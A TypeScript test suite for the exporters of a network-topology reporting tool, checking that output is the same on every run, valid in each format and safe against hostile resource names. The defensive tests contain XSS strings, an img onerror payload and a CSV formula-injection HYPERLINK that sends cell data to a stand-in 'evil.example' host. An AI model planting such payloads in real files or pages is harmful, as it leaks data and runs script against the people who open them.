/** Laws for every exporter: same input same bytes, hostile names inert, formats that other readers accept. */
import { parse } from 'csv-parse/sync';
import { marked } from 'marked';
import { describe, expect, it } from 'vitest';
import { exporters } from '#app/exports/index.gen.ts';
import { pagesOf } from '#app/exports/parts/pages.ts';
import { runsOver } from '#tests/kit/drawn.ts';
import type { Artefact } from '#app/exports/exporter.ts';
import { analyze, type Report } from '#app/report.ts';
import { buildScene } from '#app/scene/build.ts';
import type { Scene } from '#app/scene/scene.ts';
import { estates, shuffled } from '../scene/estates.ts';
import { hubOf } from '../scene/networks.ts';
import { breaches } from './drawio-rules.ts';
import { elements, HOSTILE, hostile, textOf, xmlOf } from './readers.ts';

interface Drawn {
  readonly report: Report;
  readonly scene: Scene;
}
const draw = (report: Report): Drawn => ({
  report,
  scene: buildScene(report, { findings: true }),
});
const render = ({ report, scene }: Drawn, id: string): readonly Artefact[] =>
  exporters.find((e) => e.id === id)!.render(report, scene);
const artefacts = (report: Report, id: string): readonly Artefact[] => render(draw(report), id);
const bodies = (report: Report, id: string): string => artefacts(report, id).map(textOf).join('\n');
const ids = exporters.map((e) => e.id);

const nasty = hostile();

/** Control characters (but line ends), bidirectional controls, lone surrogates. */
const LIVE =
  /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]|[\ud800-\udfff]/u;

/** Read and drawn twice, and once in another order: for all exporters together, as drawing takes longest. */
const estatesDrawn = new Map<string, readonly [Drawn, Drawn, Drawn]>();
function drawnThrice({ name, report }: (typeof estates)[number]): readonly [Drawn, Drawn, Drawn] {
  const known = estatesDrawn.get(name);
  if (known) return known;
  const all = [draw(report()), draw(report()), draw(report(shuffled))] as const;
  estatesDrawn.set(name, all);
  return all;
}

describe.each(ids)('exporter %s', (id) => {
  it.each(estates)('gives the same bytes twice, and for shuffled pages: $name', (estate) => {
    const [once, again, mixed] = drawnThrice(estate).map((drawn) => render(drawn, id));
    expect(again).toEqual(once);
    expect(mixed).toEqual(once);
  });

  it('shows what is invisible or turns text around', () => {
    expect(bodies(nasty, id)).not.toMatch(LIVE);
    expect(bodies(nasty, id)).toContain('\ufffd');
  });

  it('names its artefacts after its extension, and says whether they are text', () => {
    const { extension, bytes = false } = exporters.find((e) => e.id === id)!.about;
    for (const a of artefacts(nasty, id)) {
      expect(a.name).toMatch(new RegExp(`^[a-z-]+\\.${extension}$`));
      expect(typeof a.body === 'string').toBe(!bytes);
    }
  });
});

describe('svg', () => {
  const doc = xmlOf(bodies(nasty, 'svg'));

  it('is well-formed and holds nothing that runs or fetches', () => {
    for (const name of ['script', 'foreignObject', 'image', 'use', 'iframe', 'animate', 'set']) {
      expect(elements(doc, name), name).toEqual([]);
    }
    for (const e of elements(doc, '*')) {
      for (const a of Array.from(e.attributes)) {
        expect(a.name).not.toMatch(/^on|:href$/i);
        // Where links lead to is told by links.test.ts.
        if (a.name !== 'xmlns' && !(a.name === 'href' && e.nodeName === 'a'))
          expect(a.value).not.toMatch(/javascript:|url\(|https?:/i);
      }
    }
  });

  it('keeps text as text: a name reads back exactly, but for what was made visible', () => {
    const titles = elements(doc, 'title').map((t) => t.textContent);
    expect(titles.some((t) => t.startsWith('<script>alert(1)</script> | '))).toBe(true);
    expect(titles.some((t) => t.startsWith(HOSTILE.at(-2)!))).toBe(true);
  });

  it('gives elements ids that are unique and safe', () => {
    const all = elements(doc, '*').flatMap((e) => e.getAttribute('id') || []);
    expect(new Set(all).size).toBe(all.length);
    for (const one of all) expect(one).toMatch(/^[A-Za-z][\w.-]*$/);
  });
});

describe('drawio', () => {
  it.each([
    ...estates.map((e) => ({ name: e.name, report: e.report })),
    { name: 'hostile', report: hostile },
  ])(
    'glues every connector to cells of its page, and nests cells in cells that exist: $name',
    ({ report }) => {
      const doc = xmlOf(bodies(report(), 'drawio'));
      expect(breaches(doc.documentElement)).toEqual([]);
      expect(elements(doc, 'diagram')[0]?.getAttribute('name')).toBe('Overview');
      for (const page of elements(doc, 'diagram')) {
        const inPage = (name: string): Element[] => Array.from(page.getElementsByTagName(name));
        const cells = [...inPage('object'), ...inPage('mxCell')].flatMap(
          (e) => e.getAttribute('id') || [],
        );
        expect(new Set(cells).size).toBe(cells.length);
        for (const cell of inPage('mxCell')) {
          for (const end of ['source', 'target', 'parent']) {
            const to = cell.getAttribute(end);
            if (to) expect(cells).toContain(to);
          }
          if (cell.getAttribute('edge') === '1') {
            expect(cell.getAttribute('source')).toBeTruthy();
            expect(cell.getAttribute('target')).toBeTruthy();
          }
          // Labels are HTML to draw.io unless a cell says otherwise.
          if (cell.getAttribute('style')) expect(cell.getAttribute('style')).toContain('html=0');
        }
        for (const object of inPage('object')) {
          expect(object.getAttribute('link') || 'https://').toMatch(/^https:\/\//);
          expect(object.getAttribute('placeholders')).toBeFalsy();
        }
      }
    },
  );

  it.each([
    [
      'an attribute of no meaning',
      /colour="red"/,
      'mxCell',
      (e: Element) => e.setAttribute('colour', 'red'),
    ],
    [
      'a page of no size',
      /pageWidth="0"/,
      'mxGraphModel',
      (e: Element) => e.setAttribute('pageWidth', '0'),
    ],
    [
      'an object without an id',
      /object has no id/,
      'object',
      (e: Element) => e.removeAttribute('id'),
    ],
    ['no layer', /no layer 1/, 'root', (e: Element) => e.removeChild(elements(e, 'mxCell')[1]!)],
  ])('is refused by the published rules with %s', (_, words, name, plant) => {
    const doc = xmlOf(bodies(nasty, 'drawio'));
    plant(elements(doc, name)[0]!);
    expect(breaches(doc.documentElement).join('\n')).toMatch(words);
  });

  it('runs no line over a card of a Region, in the sample estate', () => {
    const report = estates.find((e) => e.name === 'sample')!.report();
    for (const page of pagesOf(report, buildScene(report)))
      expect(runsOver({ ...page, title: '', leftOut: [] }), page.name).toEqual([]);
  });

  it('has one page a Region after the overview', () => {
    const sample = estates.find((e) => e.name === 'sample')!;
    const names = elements(xmlOf(bodies(sample.report(), 'drawio')), 'diagram').map((d) =>
      d.getAttribute('name'),
    );
    expect(names).toEqual(['Overview', 'eu-west-1', 'us-east-1', 'us-west-2']);
  });
});

/** Rows as a strict parser, not ours, reads them. */
const rowsOf = (a: Artefact): string[][] =>
  parse(String(a.body), { relax_quotes: false, record_delimiter: '\r\n' });

describe('csv', () => {
  it('is read by a strict parser, and no cell begins like a formula', () => {
    for (const a of artefacts(nasty, 'csv')) {
      for (const cell of rowsOf(a).flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('has a table each of VPCs, peerings, attachments, routes, findings and reach', () => {
    const report = estates.find((e) => e.name === 'sample')!.report();
    const tables = artefacts(report, 'csv');
    expect(tables.map((a) => a.name)).toEqual(
      ['vpcs', 'peerings', 'attachments', 'routes', 'findings', 'reach'].map(
        (table) => `peerless-${table}.csv`,
      ),
    );
    const [head, ...rows] = rowsOf(tables.at(-1)!);
    expect(head).toEqual(['from', 'to', 'outcome', 'return']);
    const vpcs = report.topology.all('vpc').map((v) => v.id);
    expect(rows).toHaveLength(vpcs.length * (vpcs.length - 1));
    for (const [from, to] of rows) expect(vpcs).toEqual(expect.arrayContaining([from, to]));
  });

  it('says so where there are too many pairs for a table', () => {
    const many = artefacts(analyze(hubOf(501).snapshot()), 'csv').at(-1)!;
    expect(rowsOf(many)[1]?.[2]).toMatch(/^not listed: the pairs of 501 VPCs/);
  });

  it('keeps what a cell says, behind an apostrophe where it would run', () => {
    const vpcs = artefacts(nasty, 'csv').find((a) => a.name === 'peerless-vpcs.csv')!;
    const names = rowsOf(vpcs).map((row) => row[1]);
    expect(names).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"click")');
    expect(names).toContain('"><img src=x onerror=alert(1)>');
  });
});

describe('markdown', () => {
  it('renders to no link, image, code or HTML that a name brought in', () => {
    const html = marked.parse(bodies(nasty, 'markdown'), { gfm: true, async: false });
    expect(html).not.toMatch(/<(a|img|script|b|em|code|blockquote|del|input)\b/i);
    const headings = [...html.matchAll(/<h[1-6]>(.*?)<\/h[1-6]>/g)].map((m) => m[1]);
    expect(headings.filter((h) => h?.includes('heading'))).toEqual([]);
  });

  it('keeps every table row in its columns', () => {
    const html = marked.parse(bodies(nasty, 'markdown'), { gfm: true, async: false });
    for (const table of html.split('<table>').slice(1)) {
      const [head = '', body = ''] = table.split('</thead>');
      const columns = head.split('<th>').length - 1;
      for (const row of body.split('<tr>').slice(1))
        expect(row.split('<td>').length - 1).toBe(columns);
    }
  });
});

describe('mermaid', () => {
  it('has one statement a line, and none that a name brought in', () => {
    const node = /^\s+n\d+(\[|\{\{|\(\[)"[^"]*"(\]|\}\}|\]\))(:::ghost)?$/;
    const box = /^\s+(subgraph n\d+\["[^"]*"\]|end)$/;
    const link = /^\s+n\d+ (---|===|-\.-)(\|"[^"]*"\|)? n\d+$/;
    const [first, about, second, ...rest] = bodies(nasty, 'mermaid').trimEnd().split('\n');
    expect(first).toBe('flowchart TB');
    const looks = /^ {2}linkStyle [\d,]+ stroke-width:[\d.]+px(,stroke-dasharray:[\d. ]+)?$/;
    // One comment, in which nothing is an order: https://mermaid.js.org/config/directives.html
    expect(about).toMatch(/^ {2}%% (?!.*%%)/);
    expect(second).toMatch(/^ {2}classDef ghost /);
    for (const line of rest)
      expect(line).toMatch(new RegExp([node, box, link, looks].map((r) => r.source).join('|')));
  });
});

describe('json', () => {
  it('says what it is, and what there is', () => {
    const report = estates.find((e) => e.name === 'sample')!.report();
    const vpcs = report.topology.all('vpc');
    const read: unknown = JSON.parse(bodies(report, 'json'));
    expect(read).toMatchObject({
      schema: 'peerless/report@1',
      counts: { vpc: vpcs.length },
      resources: { vpc: vpcs.map((v) => ({ id: v.id, cidrs: v.cidrs.map((c) => c.text) })) },
      summary: report.summary,
    });
  });
});
